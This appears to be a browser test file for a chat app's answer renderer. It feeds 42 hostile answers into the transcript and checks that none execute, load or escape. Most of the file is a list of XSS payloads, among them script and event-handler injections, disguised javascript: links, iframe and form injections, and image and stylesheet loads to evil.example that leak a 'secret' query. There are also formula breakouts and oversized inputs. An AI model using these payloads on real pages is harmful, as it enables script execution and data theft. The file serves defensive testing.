// Answers that try to run, to load, to lead away, to break out or to break down.
import assert from "node:assert/strict";
import { cutOff, open, sse, test } from "./world.js";

const run = "window.pwned=1";
const repeat = (text, times) => text.repeat(times);

const ANSWERS = {
  "a script": `<script>${run}</script>`,
  "a script in upper case across lines": `<SCRIPT\n>${run}</SCRIPT\n>`,
  "a script from elsewhere": '<script src="https://evil.example/a.js"></script>',
  "a module script": `<script type="module">${run}</script>`,
  "an image with a handler": `<img src=x onerror="${run}">`,
  "an image to load": "![pixel](https://evil.example/pixel.png?q=secret)",
  "an image in a link": "[![a](https://evil.example/a.png)](https://evil.example/)",
  "an image by reference": "![a][b]\n\n[b]: https://evil.example/b.png",
  "an SVG with a handler": `<svg onload="${run}"><script>${run}</script><animate onbegin="${run}"></svg>`,
  "a frame": `<iframe srcdoc="<script>parent.pwned=1</script>" src="https://evil.example/"></iframe>`,
  "an object and an embed": '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  "a form": '<form action="https://evil.example/" method="post"><input name="key" autofocus><button>Ask</button></form>',
  "a handler on a button": `<button onclick="${run}" autofocus onfocus="${run}">Copy</button>`,
  "details with a handler": `<details open ontoggle="${run}"><summary>a</summary></details>`,
  "a video with a handler": `<video><source onerror="${run}"></video><audio src="https://evil.example/a.mp3" autoplay>`,
  "a style sheet": '<style>@import "https://evil.example/a.css"; #composer { display: none }</style><link rel="stylesheet" href="https://evil.example/a.css">',
  "a style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example/a)">Log in here</div>',
  "a base and a refresh": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "closing tags": "</div></article></div></main><footer>Enter your key:</footer><main><div>",
  "a comment and a CDATA": `<!-- <script>${run}</script> --><![CDATA[<script>${run}</script>]]><?php ${run} ?>`,
  "a noscript trick": `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  "a template trick": `<template><script>${run}</script></template><math><mtext><mglyph><style><img src=x onerror=${run}>`,
  "a javascript: link": `[click](javascript:${run}) [click](JaVaScRiPt:${run}) <javascript:${run}>`,
  "a javascript: link in disguise": `[a](&#106;avascript:${run}) [b](java\nscript:${run}) [c](java%73cript:${run}) [d]( javascript:${run}) [e](\u0001javascript:${run})`,
  "a javascript: link by reference": `[a][b] [b]\n\n[b]: javascript:${run}`,
  "data:, vbscript:, file: and blob: links": `[a](data:text/html,<script>${run}</script>) [b](vbscript:${run}) [c](file:///etc/passwd) [d](blob:https://evil.example/1) [e](about:blank)`,
  "links without a scheme": "[a](//evil.example) [b](/api/health) [c](#log) [d](evil.example) [e](?q)",
  "a title that breaks out": `[a](https://b.example/ "\\" onmouseover=\\"${run}") [b](https://b.example/"onclick="${run})`,
  "a language that breaks out": `\`\`\`"><script>${run}</script>\n${run}\n\`\`\`\n\n~~~js" onclick="${run}\na\n~~~`,
  "a table that breaks out": `|<script>${run}</script>|<td onclick=${run}>|\n|--|--|\n|</table><img src=x onerror=${run}>|[a](javascript:${run})|`,
  "handlers in every place": `# <b onclick=${run}>\n> <i onclick=${run}>\n- <u onclick=${run}>\n\n**<a href="javascript:${run}">a</a>** \`<b onclick=${run}>\``,
  "names of the prototype": "```constructor\na\n```\n\n```__proto__\nb\n```\n\n&constructor; &__proto__; &toString;",
  "ids and names of the page": '<input id="question"><a id="ask" name="composer"></a><form id="composer" name="log">',
  "broken Markdown": "**a *b `c [d](e ~~f\n\n> - 1. ```\n\n| a |\n|--\n| b\n\n***___***\n\n[[[[((((\n\n\\\n\n#\n\n- \n\n1.\n\n```",
  "nothing but markers": repeat("*_`~[](){}<>#|!\\-=+>&$ ", 60),
  "deep nesting": `${repeat(">", 300)} a\n\n${repeat("- ", 300)}b\n\n${repeat("[", 500)}`,
  "one word without an end": repeat("W", 3900),
  "wide things": `|${repeat("aaaaaaaaaaaaaaa|", 60)}\n|${repeat("-|", 60)}\n\n\`\`\`\n${repeat("b", 1000)}\n\`\`\`\n\n$${repeat("c", 400)}$\n\nhttps://d.example/${repeat("e", 400)}`,
  "formulas that break out": `$\\href{javascript:${run}}{a}$ \\[ \\class{x" onclick="${run}}{b} \\style{position:fixed}{c} \\includegraphics{https://evil.example/a.png} \\] $$\\text{<img src=x onerror=${run}>}$$ $\\html{<script>${run}</script>}$`,
  "formulas without measure": `$${repeat("{", 900)}${repeat("}", 900)}$ $$\\def\\a{\\a\\a}\\a$$ \\(${repeat("\\frac{", 200)}x\\) $\\rule{999em}{999em}$`,
  "control characters": "a\u0000b\u0001c\u0008d\u000be\u001bf\u007fg\u0085h\ufeffi\ufffej\u2028k\u2029l\ud83d\ude00",
  "bidi and combining characters": `\u202eevil\u202c \u2066a\u2067b\u2069 \u200f\u200e \u061c ${repeat("e\u0301\u0302\u0303\u0304", 40)} ${repeat("\u0e47", 300)}`,
};

/** What may stand inside an answer: element names, and for each the attributes. */
const ALLOWED = {
  a: ["href", "title", "target", "rel", "dir"], bdi: ["dir"], blockquote: ["dir"], br: [], button: ["type", "class", "aria-label"], code: ["data-language", "dir", "class"], del: [],
  div: ["class", "dir", "role", "aria-label", "tabindex"], em: [], h4: ["dir"], h5: ["dir"], h6: ["dir"], hr: [], li: ["class", "dir"], ol: ["dir", "start"],
  p: ["dir", "class"], pre: ["tabindex", "role", "aria-label"], span: ["role", "aria-label", "class", "dir", "tabindex"], strong: [], table: ["dir"], tbody: [], td: ["class", "dir"],
  th: ["scope", "class", "dir"], thead: [], tr: [], ul: ["dir"],
};
/** And inside a formula. */
const MATHML = "http://www.w3.org/1998/Math/MathML";
const FORMULA = ["math", "semantics", "annotation", ..."mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle mpadded mphantom menclose".split(" ")];
const FORMULA_ATTRIBUTES = "class display encoding mathvariant fence form stretchy movablelimits lspace rspace symmetric minsize maxsize largeop separator accent accentunder linethickness width height depth voffset displaystyle scriptlevel mathsize".split(" ");

const RULES = { allowed: ALLOWED, mathml: MATHML, formula: FORMULA, formulaAttributes: FORMULA_ATTRIBUTES };

/** Everything that is wrong with the page around and inside the last answer. */
function faults({ allowed, mathml, formula, formulaAttributes }) {
  const found = [];
  const answer = [...document.querySelectorAll(".answer")].at(-1);
  for (const element of answer.querySelectorAll("*")) {
    const inFormula = element.namespaceURI === mathml && formula.includes(element.localName);
    const attributes = inFormula ? formulaAttributes : allowed[element.localName];
    if (!attributes || !(inFormula || element.namespaceURI === "http://www.w3.org/1999/xhtml")) found.push(`element ${element.localName}`);
    for (const { name } of element.attributes) if (!attributes?.includes(name)) found.push(`attribute ${element.localName} ${name}`);
  }
  for (const { protocol, href } of answer.querySelectorAll("a")) if (!["http:", "https:", "mailto:"].includes(protocol)) found.push(`link ${href}`);
  if (!answer.textContent.trim()) found.push("nothing is shown");
  if (window.pwned !== undefined) found.push("a script ran");
  const elements = ["script", "form", "textarea", "img", "iframe", "svg", "style", "base", "object", "embed"].map((name) => document.querySelectorAll(name).length);
  if (String(elements) !== "2,2,1,0,0,0,0,0,0,0") found.push(`elements ${elements}`);
  const body = [...document.body.children].map(({ localName }) => localName).join(" ");
  if (body !== "a header main footer dialog") found.push(`body ${body}`);
  const box = document.querySelector("#question").getBoundingClientRect();
  if (document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)?.id !== "question") found.push("the box is covered");
  if (document.activeElement.id !== "question") found.push("the focus was taken");
  return found;
}

export default function hostile() {
  test("42 hostile answers stay text inside the transcript", async (t) => {
    assert.equal(Object.keys(ANSWERS).length, 42);
    const { page, asked, close } = await open({ viewport: { width: 700, height: 900 } });
    for (const [name, text] of Object.entries(ANSWERS)) {
      await t.test(name, async () => {
        await page.locator("#new-chat").evaluate((button) => button.click());
        await asked(`stub:text=${text}`);
        assert.deepEqual([...(await page.evaluate(faults, RULES)), ...(await cutOff(page))], []);
      });
    }
    await close();
  });

  test("two megabytes of text", async () => {
    const line = "Word **bold** `code` <script>window.pwned=1</script> [a](javascript:1) and on.\n";
    const megabytes = Array.from({ length: 500 }, () => ["token", { text: `${repeat(line, 52)}\n` }]);
    const answer = sse(["start", { id: "a" }], ...megabytes, ["done", { model: "m", finishReason: "stop", usage: null }]);
    const { page, context, asked, answer: shown, close } = await open({ routes: { "**/api/ask": answer } });
    context.setDefaultTimeout(60_000);
    await asked("a");
    assert.deepEqual(await page.evaluate(faults, RULES), []);
    assert.ok((await shown.evaluate((element) => element.textContent.length)) > 1_400_000);
    assert.equal(await shown.locator("strong").count(), 500 * 52);
    await page.getByLabel("Enter your question:").fill("still here");
    await close();
  });

  test("two megabytes in one line", async () => {
    const pieces = Array.from({ length: 500 }, () => ["token", { text: repeat("__a*b ", 700) }]);
    const answer = sse(["start", { id: "a" }], ...pieces, ["done", { model: "m", finishReason: "stop", usage: null }]);
    const { page, context, asked, close } = await open({ routes: { "**/api/ask": answer } });
    context.setDefaultTimeout(60_000);
    await asked("a");
    assert.deepEqual(await page.evaluate(faults, RULES), []);
    await close();
  });
}
